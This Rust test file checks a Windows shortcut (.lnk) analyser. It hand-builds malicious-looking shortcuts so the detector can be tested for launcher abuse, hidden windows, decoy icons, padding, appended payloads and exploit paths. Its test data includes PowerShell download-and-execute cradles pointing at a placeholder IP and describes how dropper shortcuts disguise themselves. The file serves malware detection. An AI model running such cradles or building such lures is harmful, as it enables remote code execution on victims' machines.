//! Shortcuts built byte by byte (MS-SHLLINK); their command lines are text that is never run.

use super::*;
use crate::{analyse, Kind, Options};

fn utf16z(s: &str) -> Vec<u8> {
    let mut v: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    v.extend_from_slice(&[0, 0]);
    v
}

/// A file entry shell item with a short name and a version 9 0xBEEF0004 extension block.
fn file_item(short: &str, long: &str, dir: bool) -> Vec<u8> {
    let mut it = vec![if dir { 0x31 } else { 0x32 }, 0];
    it.extend_from_slice(&[0; 4 + 4]); // size, modification time
    it.extend_from_slice(&(if dir { 0x10u16 } else { 0x20 }).to_le_bytes());
    it.extend_from_slice(short.as_bytes());
    it.push(0);
    if it.len() % 2 == 1 {
        it.push(0);
    }
    let ext_off = it.len() as u16 + 2;
    let mut ext = vec![0u8; 46];
    ext[2..4].copy_from_slice(&9u16.to_le_bytes());
    ext[4..8].copy_from_slice(&[0x04, 0x00, 0xEF, 0xBE]);
    ext[16..18].copy_from_slice(&0x2Eu16.to_le_bytes());
    ext.extend(utf16z(long));
    ext.extend_from_slice(&ext_off.to_le_bytes());
    let n = ext.len() as u16;
    ext[0..2].copy_from_slice(&n.to_le_bytes());
    it.extend(ext);
    it
}

fn id_list(items: &[Vec<u8>]) -> Vec<u8> {
    let mut body = Vec::new();
    for it in items {
        body.extend_from_slice(&((it.len() + 2) as u16).to_le_bytes());
        body.extend_from_slice(it);
    }
    body.extend_from_slice(&[0, 0]);
    let mut out = (body.len() as u16).to_le_bytes().to_vec();
    out.extend(body);
    out
}

fn string(s: &str) -> Vec<u8> {
    let u: Vec<u16> = s.encode_utf16().collect();
    let mut v = (u.len() as u16).to_le_bytes().to_vec();
    v.extend(u.iter().flat_map(|x| x.to_le_bytes()));
    v
}

struct Spec<'a> {
    path: &'a [(&'a str, &'a str)],
    link_info: Option<&'a str>,
    args: &'a str,
    icon: Option<&'a str>,
    icon_index: i32,
    show: u32,
    machine: Option<&'a str>,
    /// Pad the working directory to 260 characters and declare far more (the XDSpy-style overrun).
    overrun: bool,
}

fn build(s: &Spec<'_>) -> Vec<u8> {
    let mut flags = HAS_TARGET_ID_LIST | IS_UNICODE | HAS_WORKING_DIR;
    if s.link_info.is_some() {
        flags |= HAS_LINK_INFO;
    }
    if !s.args.is_empty() {
        flags |= HAS_ARGUMENTS;
    }
    if s.icon.is_some() {
        flags |= HAS_ICON_LOCATION;
    }
    let mut d = vec![0u8; 0x4C];
    d[0..4].copy_from_slice(&0x4Cu32.to_le_bytes());
    d[4..20].copy_from_slice(&LINK_CLSID);
    d[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
    d[0x18..0x1C].copy_from_slice(&0x20u32.to_le_bytes());
    d[0x38..0x3C].copy_from_slice(&s.icon_index.to_le_bytes());
    d[0x3C..0x40].copy_from_slice(&s.show.to_le_bytes());
    // §2.2: My Computer, the C: volume, then one file entry per path component.
    let mut items = vec![{
        let mut r = vec![0x1F, 0x50];
        r.extend_from_slice(&[
            0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD8, 0x08, 0x00, 0x2B, 0x30,
            0x30, 0x9D,
        ]);
        r
    }];
    let mut vol = vec![0x2F];
    vol.extend_from_slice(b"C:\\");
    vol.resize(23, 0);
    items.push(vol);
    for (i, (short, long)) in s.path.iter().enumerate() {
        items.push(file_item(short, long, i + 1 < s.path.len()));
    }
    d.extend(id_list(&items));
    if let Some(base) = s.link_info {
        // §2.3 with a 0x1C header, a VolumeID and an ANSI LocalBasePath.
        let mut volume = vec![0u8; 0x10];
        volume[0..4].copy_from_slice(&0x11u32.to_le_bytes());
        volume[4..8].copy_from_slice(&3u32.to_le_bytes());
        volume[12..16].copy_from_slice(&0x10u32.to_le_bytes());
        volume.push(0);
        let local_off = 0x1C + volume.len();
        let suffix_off = local_off + base.len() + 1;
        let size = suffix_off + 1;
        let mut li = Vec::new();
        for v in [size, 0x1C, 1, 0x1C, local_off, 0, suffix_off] {
            li.extend_from_slice(&(v as u32).to_le_bytes());
        }
        li.extend(volume);
        li.extend_from_slice(base.as_bytes());
        li.push(0);
        li.push(0);
        d.extend(li);
    }
    if s.overrun {
        let wd = format!("{:<260}", "C:\\Windows\\System32");
        let mut v = string(&wd);
        v[0..2].copy_from_slice(&1693u16.to_le_bytes());
        d.extend(v);
    } else {
        d.extend(string("%USERPROFILE%\\Documents"));
    }
    if !s.args.is_empty() {
        d.extend(string(s.args));
    }
    if let Some(i) = s.icon {
        d.extend(string(i));
    }
    // §2.5.10 TrackerDataBlock with a version 1 droid file id whose node is 00:0c:29:aa:bb:cc.
    if let Some(m) = s.machine {
        let mut b = vec![0u8; 0x60];
        b[0..4].copy_from_slice(&0x60u32.to_le_bytes());
        b[4..8].copy_from_slice(&0xA000_0003u32.to_le_bytes());
        b[8..12].copy_from_slice(&0x58u32.to_le_bytes());
        b[16..16 + m.len()].copy_from_slice(m.as_bytes());
        b[48 + 7] = 0x11;
        b[48 + 10..48 + 16].copy_from_slice(&[0x00, 0x0c, 0x29, 0xaa, 0xbb, 0xcc]);
        d.extend(b);
    }
    d.extend_from_slice(&[0, 0, 0, 0]);
    d
}

const PS: &[(&str, &str)] = &[
    ("Windows", "Windows"),
    ("System32", "System32"),
    ("WINDOW~1", "WindowsPowerShell"),
    ("v1.0", "v1.0"),
    ("POWERS~1.EXE", "powershell.exe"),
];

fn findings(data: &[u8]) -> crate::Node {
    let n = analyse(data, "Invoice.lnk", None, &Options::default());
    assert_eq!(n.detected_type, Kind::Lnk);
    n
}

/// A PowerShell download cradle's arguments, and the shortcut that runs it the way droppers ship it
/// (hidden window, Edge's icon, PowerShell's full path in LinkInfo).
const PS_DOWNLOAD: &str = "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"";

fn ps_download() -> Vec<u8> {
    build(&Spec {
        path: PS,
        link_info: Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        args: PS_DOWNLOAD,
        icon: Some("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
        icon_index: 11,
        show: 7,
        machine: Some("desktop-a1b2c3"),
        overrun: false,
    })
}

#[test]
fn powershell_download_shortcut() {
    let args = PS_DOWNLOAD;
    let data = ps_download();
    let l = parse(&data).unwrap();
    assert_eq!(
        l.id_list_path.as_deref(),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert_eq!(l.arguments.as_deref(), Some(args));
    let n = findings(&data);
    assert_eq!(
        n.format.as_deref().unwrap().split(" with ").next(),
        Some("Windows shortcut to C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    let sev = |id: &str| n.findings.iter().find(|f| f.id == id).map(|f| f.severity);
    assert_eq!(sev("lnk.shortcut"), Some(Severity::High));
    assert_eq!(sev("lnk.lolbin"), Some(Severity::Critical));
    assert_eq!(sev("lnk.hidden_window"), Some(Severity::Medium));
    assert_eq!(sev("lnk.icon_decoy"), Some(Severity::High));
    assert_eq!(sev("lnk.url"), Some(Severity::Medium));
    let lol = n.findings.iter().find(|f| f.id == "lnk.lolbin").unwrap();
    assert!(lol.techniques.contains(&t::POWERSHELL.to_string()));
    assert!(lol.evidence[0].value.contains("DownloadString"));
    let m = n
        .findings
        .iter()
        .find(|f| f.id == "lnk.machine_id")
        .unwrap();
    assert_eq!(
        m.evidence[0].value,
        "machine id desktop-a1b2c3, MAC 00:0c:29:aa:bb:cc"
    );
}

#[test]
fn id_list_alone_gives_the_target_and_padding_is_flagged() {
    let args = format!("{}/c start calc.exe", " ".repeat(300));
    let data = build(&Spec {
        path: &[
            ("Windows", "Windows"),
            ("System32", "System32"),
            ("cmd.exe", "cmd.exe"),
        ],
        link_info: None,
        args: &args,
        icon: Some("%SystemRoot%\\System32\\imageres.dll"),
        icon_index: 2,
        show: 1,
        machine: None,
        overrun: false,
    });
    let n = findings(&data);
    assert!(n
        .format
        .as_deref()
        .unwrap()
        .contains("C:\\Windows\\System32\\cmd.exe"));
    let sev = |id: &str| n.findings.iter().find(|f| f.id == id).map(|f| f.severity);
    assert_eq!(sev("lnk.padded_arguments"), Some(Severity::High));
    assert_eq!(sev("lnk.lolbin"), Some(Severity::High));
    assert_eq!(sev("lnk.icon_decoy"), Some(Severity::High));
    assert!(!n.has("lnk.hidden_window"));
    let s = n.findings.iter().find(|f| f.id == "lnk.shortcut").unwrap();
    assert!(s.evidence[0]
        .note
        .as_deref()
        .unwrap()
        .contains("command line 345 characters"));
}

#[test]
fn appended_payload_becomes_a_child() {
    let mut data = build(&Spec {
        path: PS,
        link_info: None,
        args: "-c \"$b=[IO.File]::ReadAllBytes('x.lnk')\"",
        icon: None,
        icon_index: 0,
        show: 1,
        machine: None,
        overrun: false,
    });
    data.extend(std::iter::repeat_n(b'A', 4096));
    let n = findings(&data);
    assert!(n.has("lnk.appended_data"));
    assert_eq!(n.children.len(), 1);
    assert_eq!(n.children[0].size, 4096);
}

#[test]
fn truncated_and_damaged_shortcuts_do_not_panic() {
    let data = build(&Spec {
        path: PS,
        link_info: Some("C:\\x.exe"),
        args: "/c echo",
        icon: Some("x.ico"),
        icon_index: 0,
        show: 7,
        machine: Some("m"),
        overrun: false,
    });
    for cut in 0..data.len() {
        let _ = parse(&data[..cut]);
    }
    for i in 0x4C..data.len() {
        let mut d = data.clone();
        d[i] = 0xFF;
        let _ = parse(&d);
        d[i] = 0x7F;
        let _ = parse(&d);
    }
    let n = findings(&data[..0x60]);
    assert!(n.has("lnk.shortcut"));
}

#[test]
fn forged_string_length_is_read_as_windows_does() {
    let data = build(&Spec {
        path: &[
            ("Windows", "Windows"),
            ("System32", "System32"),
            ("cmd.exe", "cmd.exe"),
        ],
        link_info: None,
        args: "/c start calc.exe",
        icon: Some("C:\\Windows\\System32\\shell32.dll"),
        icon_index: 1,
        show: 7,
        machine: None,
        overrun: true,
    });
    let l = parse(&data).unwrap();
    assert_eq!(l.arguments.as_deref(), Some("/c start calc.exe"));
    assert_eq!(
        l.working_dir.as_deref().map(str::trim_end),
        Some("C:\\Windows\\System32")
    );
    let n = findings(&data);
    assert!(n.has("lnk.string_overrun"), "{:?}", n.findings);
}

#[test]
fn control_panel_applet_path_is_an_exploit() {
    let mut item = vec![0u8; 20];
    item[2] = 0x21;
    item.extend(utf16z("\\\\.\\STORAGE#Volume#1\\RECYCLER\\x.cpl"));
    let ids = id_list(&[item]);
    assert_eq!(
        cpl_path(&ids[2..]).as_deref(),
        Some("\\\\.\\STORAGE#Volume#1\\RECYCLER\\x.cpl")
    );
}

/// A shortcut whose ID list is `items` and nothing else.
fn bare(items: &[Vec<u8>]) -> Vec<u8> {
    let mut d = vec![0u8; 0x4C];
    d[0..4].copy_from_slice(&0x4Cu32.to_le_bytes());
    d[4..20].copy_from_slice(&LINK_CLSID);
    d[0x14..0x18].copy_from_slice(&(HAS_TARGET_ID_LIST | IS_UNICODE).to_le_bytes());
    d.extend(id_list(items));
    d.extend_from_slice(&[0, 0, 0, 0]);
    d
}

#[test]
fn cpl_drive_letter_outside_ascii_does_not_panic() {
    // "Ā:\x.cpl": the character before ":\" is two bytes in UTF-8.
    let mut item = vec![0u8; 20];
    item[2] = 0x21;
    item.extend(utf16z("\u{100}:\\x.cpl"));
    assert_eq!(
        cpl_path(&id_list(std::slice::from_ref(&item))[2..]).as_deref(),
        Some("\u{100}:\\x.cpl")
    );
    // Every non-ASCII letter, and text before it, at both alignments.
    for pre in ["", "a", "\u{7FF}\u{800}", "\u{D7FF}"] {
        let mut item = vec![0u8; 21];
        item.extend(utf16z(&format!("{pre}\u{4E2D}:\\\u{4E2D}.cpl")));
        let n = findings(&bare(&[item]));
        assert!(n.has("lnk.cpl_exploit"), "{pre:?}: {:?}", n.findings);
    }
}

/// Appends an EnvironmentVariableDataBlock (§2.5.4) before the terminal block and sets HasExpString.
fn with_env_block(mut d: Vec<u8>, ansi: &str, unicode: &str) -> Vec<u8> {
    d.truncate(d.len() - 4);
    let mut b = vec![0u8; 0x314];
    b[0..4].copy_from_slice(&0x314u32.to_le_bytes());
    b[4..8].copy_from_slice(&0xA000_0001u32.to_le_bytes());
    b[8..8 + ansi.len()].copy_from_slice(ansi.as_bytes());
    let u: Vec<u8> = unicode.encode_utf16().flat_map(u16::to_le_bytes).collect();
    b[268..268 + u.len()].copy_from_slice(&u);
    d.extend(b);
    d.extend_from_slice(&[0, 0, 0, 0]);
    let flags = u32::from_le_bytes([d[0x14], d[0x15], d[0x16], d[0x17]]) | HAS_EXP_STRING;
    d[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
    d
}

#[test]
fn benign_link_info_does_not_hide_a_launcher_in_the_id_list() {
    let data = build(&Spec {
        path: PS,
        link_info: Some("C:\\Users\\Public\\Documents\\invoice.pdf"),
        args: "-w hidden -c \"iex (iwr http://198.51.100.9/a)\"",
        icon: None,
        icon_index: 0,
        show: 1,
        machine: None,
        overrun: false,
    });
    let n = findings(&data);
    // The ID list is the target (§2.2); LinkInfo only relocates it (§2.3).
    assert!(n
        .format
        .as_deref()
        .unwrap()
        .starts_with("Windows shortcut to C:\\Windows\\System32\\WindowsPowerShell"));
    let lol = n.findings.iter().find(|f| f.id == "lnk.lolbin").unwrap();
    assert_eq!(lol.severity, Severity::Critical);
    assert!(lol.evidence[0]
        .note
        .as_deref()
        .unwrap()
        .contains("invoice.pdf"));
    assert!(n.has("lnk.target_mismatch"));
}

#[test]
fn environment_block_launcher_is_examined_whatever_is_shown() {
    let notepad: &[(&str, &str)] = &[
        ("Windows", "Windows"),
        ("System32", "System32"),
        ("notepad.exe", "notepad.exe"),
    ];
    let base = build(&Spec {
        path: notepad,
        link_info: Some("C:\\Windows\\System32\\notepad.exe"),
        args: "",
        icon: None,
        icon_index: 0,
        show: 1,
        machine: None,
        overrun: false,
    });
    // HasExpString: the environment block's path is the target.
    let data = with_env_block(
        base.clone(),
        "%SystemRoot%\\System32\\cmd.exe",
        "%SystemRoot%\\System32\\cmd.exe",
    );
    let n = findings(&data);
    assert!(
        n.format.as_deref().unwrap().contains("cmd.exe"),
        "{:?}",
        n.format
    );
    assert!(n.has("lnk.lolbin") && n.has("lnk.target_mismatch"));
    // ANSI field runs a launcher while the Unicode field (what tools print) is benign.
    let data = with_env_block(
        base.clone(),
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\notepad.exe",
    );
    let n = findings(&data);
    let lol = n.findings.iter().find(|f| f.id == "lnk.lolbin").unwrap();
    assert!(lol.title.contains("powershell"), "{}", lol.title);
    // Consistent structures: no mismatch, no launcher.
    let data = with_env_block(
        base,
        "%windir%\\System32\\notepad.exe",
        "%windir%\\System32\\notepad.exe",
    );
    let n = findings(&data);
    assert!(
        !n.has("lnk.target_mismatch") && !n.has("lnk.lolbin"),
        "{:?}",
        n.findings
    );
}

#[test]
fn command_fingerprint_ignores_icon_padding_and_tracker() {
    let args = PS_DOWNLOAD;
    let a = ps_download();
    // The same command line from another build: other icon, argument padding and case, another
    // machine in the tracker block, no LinkInfo.
    let padded = format!("{}{}", " ".repeat(300), args.replace("-nop", "-NoP  "));
    let b = build(&Spec {
        path: PS,
        link_info: None,
        args: &padded,
        icon: Some("%SystemRoot%\\System32\\imageres.dll"),
        icon_index: 2,
        show: 1,
        machine: Some("laptop-9z"),
        overrun: false,
    });
    let (na, nb) = (findings(&a), findings(&b));
    assert_ne!(na.sha256, nb.sha256);
    assert_eq!(na.fingerprints.len(), 1);
    assert_eq!(na.fingerprints[0].kind, crate::FingerprintKind::LnkCommand);
    assert_eq!(na.fingerprints, nb.fingerprints);
    // The fingerprint is the normalised target and arguments, nothing else.
    let want = crate::fingerprint(
        crate::FingerprintKind::LnkCommand,
        format!(
            "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe {}",
            args.to_lowercase()
        )
        .as_bytes(),
    );
    assert_eq!(na.fingerprints.first(), want.as_ref());
    // Another URL is another command.
    let c = build(&Spec {
        path: PS,
        link_info: None,
        args: &args.replace("198.51.100.9", "198.51.100.10"),
        icon: None,
        icon_index: 0,
        show: 1,
        machine: None,
        overrun: false,
    });
    assert_ne!(findings(&c).fingerprints, na.fingerprints);
}
